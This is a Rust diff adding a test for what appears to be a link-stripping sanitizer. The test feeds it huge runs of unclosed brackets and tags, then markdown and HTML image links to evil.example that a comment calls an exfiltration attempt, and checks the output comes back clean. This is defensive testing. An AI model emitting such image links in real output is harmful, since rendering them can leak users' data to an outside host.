@@ -127,3 +127,13 @@ fn plain_text_and_code_are_left_alone() {
     assert_eq!(n.text, format!("a {LINK_REMOVED}"));
     assert!(UrlAllowlist::new(["bad host"]).is_err());
 }
+
+#[test]
+fn adversarial_inputs_stay_linear_and_safe() {
+    // Unclosed brackets and tags everywhere, then a real exfiltration attempt at the end.
+    let mut text = "[".repeat(100_000);
+    text.push_str(&"<a x ".repeat(20_000));
+    text.push_str("![x](https://evil.example/?d=1) <img src=\"https://evil.example/p\">");
+    let out = run(&text);
+    assert_clean(&out);
+}
